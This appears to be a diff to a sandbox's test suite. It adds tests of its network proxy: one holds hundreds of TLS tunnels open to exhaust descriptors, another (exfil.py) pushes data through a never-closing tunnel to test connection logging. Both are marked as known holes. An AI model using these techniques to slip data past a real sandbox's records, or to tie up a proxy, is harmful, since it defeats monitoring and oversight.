@@ -40,11 +40,31 @@ PY
 	/usr/bin/python3 "$NET_DIR/sink.py" "$NET_LOG" "$NET_DIR/sink.port" 3>&- &
 	echo $! >"$NET_DIR/sink.pid"
 	for _ in $(seq 50); do [ -s "$NET_DIR/sink.port" ] && break; sleep 0.1; done
+	# A server on 127.0.0.2 that reads to EOF and then keeps its side open
+	# for 60 s (an upstream the command controls that never closes).
+	cat >"$NET_DIR/hold.py" <<'PY'
+import socket, sys, threading, time
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("127.0.0.2", 0)); s.listen(256)
+def serve(c):
+    try:
+        while c.recv(65536): pass
+    except OSError: pass
+    time.sleep(60)
+    c.close()
+open(sys.argv[1], "w").write(str(s.getsockname()[1]))
+while True:
+    c, _ = s.accept()
+    threading.Thread(target=serve, args=(c,), daemon=True).start()
+PY
+	/usr/bin/python3 "$NET_DIR/hold.py" "$NET_DIR/hold.port" 3>&- &
+	echo $! >"$NET_DIR/hold.pid"
+	for _ in $(seq 50); do [ -s "$NET_DIR/hold.port" ] && break; sleep 0.1; done
 	# More names: one with two addresses (one not allowed first), one
 	# mapped to an IPv4-mapped metadata address.
 	{
 		cat "$NET_HOSTS"
-		printf '127.0.0.2 sink.test\n127.0.0.3 multi.test\n127.0.0.2 multi.test\n'
+		printf '127.0.0.2 sink.test hold.test\n127.0.0.3 multi.test\n127.0.0.2 multi.test\n'
 		printf '::ffff:169.254.169.254 mapped.test\n::ffff:127.0.0.3 mapped2.test\n'
 	} >"$NET_DIR/hosts2"
 	chmod a+r "$NET_DIR/hosts2"
@@ -84,7 +104,7 @@ PY
 }
 
 teardown_file() {
-	kill "$(cat "$NET_DIR/sink.pid")" 2>/dev/null || true
+	kill "$(cat "$NET_DIR/sink.pid")" "$(cat "$NET_DIR/hold.pid")" 2>/dev/null || true
 	net_world_stop
 }
 
@@ -291,4 +311,81 @@ PY
 	al run --policy .airlock/policy.json -- touch ran
 	[ "$status" -eq 126 ] || { echo "exit $status $stderr"; return 1; }
 	[ ! -e ran ]
+}
+
+@test "netattack: tunnels held open up to the descriptor limit do not make the proxy spin outside the run's cgroup" {
+	skip "HOLE: accept4() failing with EMFILE is retried at once: the proxy spins a core, outside the run's cgroup"
+	cp "$NET_CA" "$WORK/.test-ca.pem"
+	net_policy "$(jq -cn --arg s "$NET_HTTPS" '["registry.test:\($s)", "127.0.0.2:\($s)"]')"
+	cat >"$WORK/hold.py" <<'PY'
+import socket, ssl, sys, time
+port, n = int(sys.argv[1]), int(sys.argv[2])
+ctx = ssl.create_default_context(cafile=".test-ca.pem")
+held = []
+for _ in range(n):
+    try:
+        s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
+        s.sendall(f"CONNECT registry.test:{port} HTTP/1.1\r\n\r\n".encode())
+        head = b""
+        while b"\r\n\r\n" not in head:
+            d = s.recv(1)
+            if not d: raise OSError("closed")
+            head += d
+        held.append(ctx.wrap_socket(s, server_hostname="registry.test"))
+    except OSError:
+        break
+extra = [socket.create_connection(("127.0.0.1", 3128), timeout=5) for _ in range(3)]
+print("held", len(held), flush=True)
+open("up", "w").close()
+time.sleep(6)
+PY
+	(ulimit -n 1024 && exec "$NET_HELPERS/nethosts.sh" "$NET_DIR/hosts2" "$AIRLOCK" run --policy "$TEST_DIR/net.json" -- python3 hold.py "$NET_HTTPS" 400) >"$TEST_DIR/out" 2>&1 &
+	bg=$!
+	for _ in $(seq 600); do [ -e "$WORK/up" ] || [ ! -d "/proc/$bg" ] && break; sleep 0.1; done
+	pid=$(proxy_below "$bg")
+	[ -n "$pid" ] || { wait "$bg" || true; cat "$TEST_DIR/out"; echo "no proxy below $bg"; return 1; }
+	sleep 1
+	t0=$(awk '{print $14 + $15}' "/proc/$pid/stat")
+	sleep 3
+	t1=$(awk '{print $14 + $15}' "/proc/$pid/stat")
+	wait "$bg" || true
+	cat "$TEST_DIR/out"
+	echo "proxy CPU over 3 s: $((t1 - t0)) ticks"
+	# less than a tenth of a core while idle (100 ticks a second)
+	[ $((t1 - t0)) -lt 30 ]
+}
+
+@test "netattack: bytes sent through a tunnel whose upstream never closes are on the receipt" {
+	skip "HOLE: a connection still open when the run ends is never recorded: the proxy is killed before its worker emits the record"
+	HOLD=$(cat "$NET_DIR/hold.port")
+	net_policy "$(jq -cn --arg p "$HOLD" '["hold.test:\($p)", "127.0.0.2:\($p)"]')"
+	cat >"$WORK/exfil.py" <<'PY'
+import socket, ssl, sys
+port = int(sys.argv[1])
+# a ClientHello naming hold.test, made without any server
+ctx = ssl.create_default_context()
+inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
+obj = ctx.wrap_bio(inc, out, server_hostname="hold.test")
+try:
+    obj.do_handshake()
+except ssl.SSLWantReadError:
+    pass
+hello = out.read()
+s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
+s.sendall(f"CONNECT hold.test:{port} HTTP/1.1\r\n\r\n".encode())
+head = b""
+while b"\r\n\r\n" not in head:
+    head += s.recv(1)
+print(head.split(b"\r\n")[0].decode())
+s.sendall(hello + b"secret" * 20000)
+s.close()
+PY
+	start=$(date +%s)
+	aln run --policy "$TEST_DIR/net.json" -- python3 exfil.py "$HOLD"
+	[ "$status" -eq 0 ] || { echo "exit $status: $stderr"; rq .stderr; return 1; }
+	echo "run took $(($(date +%s) - start)) s"
+	rq .stdout
+	rq -c "$CONNS"
+	rq -c .sandbox.network.proxy
+	rq -e "[${CONNS}[] | select(.host == \"hold.test\" and .allowed and .bytes_out >= 120000)] | length == 1" >/dev/null
 }
